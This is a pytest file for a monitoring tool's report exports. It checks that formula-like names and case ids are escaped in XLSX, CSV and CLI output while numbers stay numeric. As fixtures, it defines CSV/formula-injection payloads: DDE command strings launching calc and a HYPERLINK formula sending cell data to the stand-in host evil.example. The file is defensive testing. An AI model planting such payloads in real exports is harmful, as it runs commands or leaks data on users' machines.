"""Hostile input, part 4: spreadsheet-safe exports. A name or case id from an input file
that starts like a formula never becomes a live formula in the XLSX report, the report's
CSV tables or a CLI ``--format csv`` list; numbers stay numbers."""

from __future__ import annotations

import csv
import io
import shutil
from decimal import Decimal
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner

from cli import cli
from monitor.report.cells import TRIGGERS, safe_cell

SHIPPED = Path(__file__).resolve().parent.parent / "rules"
EVIL_DEPT = "=cmd|' /C calc'!A0"
EVIL_ITEM = '@SUM(1+1)*cmd|" /C calc"!A0'
EVIL_CASE = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
EVIL_ACTOR = "+1-2"


@pytest.mark.parametrize("value, expected", [
    ("=1+2", "'=1+2"), ("+86 138", "'+86 138"), ("-cmd", "'-cmd"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tx", "'\tx"), ("\rx", "'\rx"), ("plain", "plain"), ("", ""), ("a=b", "a=b"),
    ("-12.50", "-12.50"), ("+3", "+3"), ("-1,234.5", "-1,234.5"), ("-5%", "-5%"),
    (-12, -12), (3.5, 3.5), (Decimal("-1.20"), Decimal("-1.20")), (None, None),
    ("bell\x07", "bell\\x07"),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected
    if isinstance(value, (int, float, Decimal)):
        assert type(safe_cell(value)) is type(value)


def _dangerous(value) -> bool:
    return isinstance(value, str) and value.startswith(TRIGGERS) and not \
        value.lstrip("+-").replace(".", "").replace(",", "").rstrip("%").isdigit()


def test_formula_looking_input_is_neutralised_in_every_export(tmp_path, db_url, monkeypatch):
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("MONITOR_DATABASE_URL", raising=False)
    catalog = {
        "departments": [{"code": "D1", "name": EVIL_DEPT}],
        "users": [{"id": EVIL_ACTOR, "name": "-张三", "department": "D1", "roles": ["clerk"]},
                  {"id": "m1", "name": "监察员", "department": "D1", "roles": ["monitor_l1"]}],
        "items": [{"code": "X1", "name": EVIL_ITEM, "department": "D1", "category": "license",
                   "promised_days": 1, "legal_days": 2, "fee": 200,
                   "min_minutes": {"survey": 30}}]}
    (tmp_path / "catalog.yaml").write_text(yaml.safe_dump(catalog, allow_unicode=True),
                                           encoding="utf-8")
    with open(tmp_path / "events.csv", "w", newline="", encoding="utf-8") as f:
        w = csv.writer(f)
        w.writerow(["event_id", "case_id", "item_code", "step", "actor", "occurred_at"])
        for i in range(3):
            case = f"{EVIL_CASE}{i}"
            w.writerow([f"a{i}", case, "X1", "accept", EVIL_ACTOR, "2025-09-01 09:00"])
            w.writerow([f"s{i}", case, "X1", "survey", EVIL_ACTOR, "2025-09-01 09:01"])
    shutil.copytree(SHIPPED, tmp_path / "rules")

    def run(*args):
        result = CliRunner().invoke(cli, ["--db", db_url, *map(str, args)])
        assert result.exit_code in (0, 3), result.output
        return result

    run("ingest", "catalog", tmp_path / "catalog.yaml")
    run("ingest", "events", tmp_path / "events.csv")
    run("run", "--as-of", "2025-10-10T10:00")
    base = ["report", "--period", "2025-09"]
    run(*base, "--format", "xlsx", "--out", tmp_path / "r.xlsx")
    run(*base, "--format", "csv", "--out", tmp_path / "csv")
    from openpyxl import load_workbook

    seen = set()
    wb = load_workbook(tmp_path / "r.xlsx")
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                assert not _dangerous(cell.value), (ws.title, cell.coordinate, cell.value)
                seen.add(cell.value)
    assert "'" + EVIL_DEPT in seen
    numbers = [c.value for c in wb.worksheets[1][2] if isinstance(c.value, (int, float))]
    assert numbers  # counts stay numbers
    for path in (tmp_path / "csv").glob("*.csv"):
        for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))):
            assert not any(_dangerous(v) for v in row), (path.name, row)
            seen.update(row)
    assert "'" + EVIL_DEPT in seen
    listed = run("alerts", "list", "--format", "csv").stdout
    rows = list(csv.reader(io.StringIO(listed)))
    assert len(rows) > 1 and not any(_dangerous(v) for r in rows for v in r)
    assert any(v.startswith("'" + EVIL_CASE) for r in rows for v in r)
